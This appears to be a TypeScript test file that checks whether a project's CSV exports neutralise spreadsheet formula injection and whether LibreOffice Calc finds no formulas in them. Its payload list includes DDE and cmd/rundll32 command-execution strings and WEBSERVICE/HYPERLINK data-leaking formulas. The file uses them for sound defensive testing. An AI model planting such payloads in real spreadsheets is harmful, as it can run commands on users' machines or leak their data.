/**
 * What spreadsheets are known to run, as reasons and as words, in every table that leaves the house (security.md §1.3: E1): no cell of it is a
 * formula. Opened in Calc itself where it is at hand: `LIBREOFFICE=soffice`.
 */
import { execFile } from "node:child_process";
import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { promisify } from "node:util";
import { parse as parseCsv } from "csv-parse/sync";
import { strFromU8, unzipSync } from "fflate";
import { expect, test } from "vitest";
import { csvOf } from "../../client/ui/csv.ts";
import { commentsAsCsv, positionsAsCsv } from "../../server/publication/csv.ts";
import { tablesOf, writeResearch } from "../../server/publication/research.ts";
import { libreOffice } from "../support/libreoffice.ts";
import { aNegotiation, p } from "../support/negotiations.ts";

/** Ten ways to begin a formula, each with twenty to go on. */
const formulas: readonly string[] = ["=", "+", "-", "@", "=-", "+-", "@=", "==", "-=", "＝"].flatMap((begin) =>
  [
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://example.org/?"&A1,"more")',
    'WEBSERVICE("https://example.org/")',
    'IMPORTXML("https://example.org/","//a")',
    "SUM(A1:A9)",
    "A1",
    'DDE("cmd";"/C calc";"x")',
    'MSEXCEL|"\\..\\..\\calc.exe"!""',
    "rundll32|'URL.dll,OpenURL x'!A",
    'IMAGE("https://example.org/x.png")',
    "NOW()",
    'INDIRECT("A1")',
    '"a","b"',
    "1;2",
    "2+3\n=4+5",
    "'x'!A1",
    'T("x")&A2',
    "RAND()",
    "$A$1",
  ].map((rest) => `${begin}${rest}`),
);

const team = { kind: "team" } as const;

/** Each table with all of them in it, by its file's name. */
async function tables(): Promise<ReadonlyMap<string, string>> {
  const talks = aNegotiation(...formulas.map((formula) => p(formula)));
  formulas.forEach((formula, index) => talks.objects("XAA", index + 1, { reason: formula }));
  const report = talks.report(team);
  const research = unzipSync(await writeResearch(tablesOf(talks.frame(team, 0).events, team)));
  return new Map([
    ["positions.csv", positionsAsCsv(report)],
    ["comments.csv", commentsAsCsv(report)],
    ["of-the-desk.csv", csvOf(formulas.map((formula) => ["XAA", formula]))],
    ...Object.entries(research).flatMap(([name, bytes]): [string, string][] =>
      name.endsWith(".csv") ? [[`research-${name}`, strFromU8(bytes)]] : [],
    ),
  ]);
}

const opensFormula = /^[=+\-@\t\r\0＝＋－＠]/;

test("[E1] of 200 formulas in reasons and words none begins a cell of a table", async () => {
  expect(formulas.length).toBe(200);
  const all = await tables();
  for (const [name, table] of all) {
    const cells = parseCsv(table, { bom: true }).flat();
    expect(
      cells.filter((cell) => opensFormula.test(cell)),
      name,
    ).toEqual([]);
  }
  // Nothing is lost by it.
  for (const name of ["positions.csv", "comments.csv", "of-the-desk.csv", "research-positions.csv"]) {
    const cells = new Set(parseCsv(all.get(name)!, { bom: true }).flat());
    for (const formula of formulas) expect(cells, name).toContain(opensFormula.test(formula) ? `'${formula}` : formula);
  }
});

/** How many formulas Calc finds in each, by the name of the file. */
async function inCalc(program: string, files: ReadonlyMap<string, string>): Promise<ReadonlyMap<string, number>> {
  const folder = await mkdtemp(join(tmpdir(), "rapporteur-calc-"));
  try {
    for (const [name, table] of files) await writeFile(join(folder, name), table);
    // Commas, double quotes, UTF-8.
    const commas = "--infilter=Text - txt - csv (StarCalc):44,34,76,1";
    const profile = `-env:UserInstallation=file://${folder}/profile`;
    const those = [...files.keys()].map((name) => join(folder, name));
    await promisify(execFile)(program, [
      profile,
      "--headless",
      commas,
      "--convert-to",
      "fods",
      "--outdir",
      folder,
      ...those,
    ]);
    const found = new Map<string, number>();
    for (const name of files.keys()) {
      const opened = await readFile(join(folder, name.replace(/csv$/, "fods")), "utf8");
      expect(opened, name).toContain("<table:table-cell");
      found.set(name, opened.split("table:formula=").length - 1);
    }
    return found;
  } finally {
    await rm(folder, { recursive: true, force: true });
  }
}

if (libreOffice !== null) {
  const program = libreOffice;
  test(
    "[E1] Calc finds no formula in them, and computes those that are not kept from it",
    { timeout: 600_000 },
    async () => {
      const all = new Map(await tables());
      all.set("unkept.csv", formulas.map((formula) => `"${formula.replaceAll('"', '""')}"\r\n`).join(""));
      const { "unkept.csv": unkept, ...ours } = Object.fromEntries(await inCalc(program, all));
      expect(unkept).toBeGreaterThan(20);
      expect(ours).toEqual(Object.fromEntries(Object.keys(ours).map((name) => [name, 0])));
    },
  );
}
